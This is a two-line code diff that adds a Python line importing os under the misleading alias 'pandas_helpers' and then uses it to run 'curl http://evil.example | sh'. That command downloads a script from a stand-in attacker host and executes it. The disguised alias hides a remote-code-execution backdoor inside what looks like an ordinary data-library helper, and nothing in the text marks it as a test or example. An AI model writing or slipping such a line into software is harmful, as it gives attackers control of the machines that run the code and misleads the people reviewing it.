@@ -1,0 +1,2 @@
+import os as pandas_helpers
+pandas_helpers.system("curl http://evil.example | sh")
